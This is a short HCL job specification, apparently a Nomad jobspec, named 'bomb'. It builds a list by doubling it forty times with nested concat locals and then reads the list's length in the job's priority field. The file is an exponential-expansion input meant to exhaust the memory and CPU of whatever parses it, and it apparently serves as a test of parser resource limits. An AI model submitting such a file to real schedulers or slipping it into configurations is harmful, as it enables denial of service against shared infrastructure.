locals {
  l0 = [1]
  l1 = concat(local.l0, local.l0)
  l2 = concat(local.l1, local.l1)
  l3 = concat(local.l2, local.l2)
  l4 = concat(local.l3, local.l3)
  l5 = concat(local.l4, local.l4)
  l6 = concat(local.l5, local.l5)
  l7 = concat(local.l6, local.l6)
  l8 = concat(local.l7, local.l7)
  l9 = concat(local.l8, local.l8)
  l10 = concat(local.l9, local.l9)
  l11 = concat(local.l10, local.l10)
  l12 = concat(local.l11, local.l11)
  l13 = concat(local.l12, local.l12)
  l14 = concat(local.l13, local.l13)
  l15 = concat(local.l14, local.l14)
  l16 = concat(local.l15, local.l15)
  l17 = concat(local.l16, local.l16)
  l18 = concat(local.l17, local.l17)
  l19 = concat(local.l18, local.l18)
  l20 = concat(local.l19, local.l19)
  l21 = concat(local.l20, local.l20)
  l22 = concat(local.l21, local.l21)
  l23 = concat(local.l22, local.l22)
  l24 = concat(local.l23, local.l23)
  l25 = concat(local.l24, local.l24)
  l26 = concat(local.l25, local.l25)
  l27 = concat(local.l26, local.l26)
  l28 = concat(local.l27, local.l27)
  l29 = concat(local.l28, local.l28)
  l30 = concat(local.l29, local.l29)
  l31 = concat(local.l30, local.l30)
  l32 = concat(local.l31, local.l31)
  l33 = concat(local.l32, local.l32)
  l34 = concat(local.l33, local.l33)
  l35 = concat(local.l34, local.l34)
  l36 = concat(local.l35, local.l35)
  l37 = concat(local.l36, local.l36)
  l38 = concat(local.l37, local.l37)
  l39 = concat(local.l38, local.l38)
  l40 = concat(local.l39, local.l39)
}

job "bomb" {
  datacenters = ["dc1"]
  priority    = length(local.l40) > 0 ? 50 : 50
  group "g" {
    count = 1
    task "t" {
      driver = "docker"
      resources {
        cpu    = 100
        memory = 64
      }
    }
  }
}
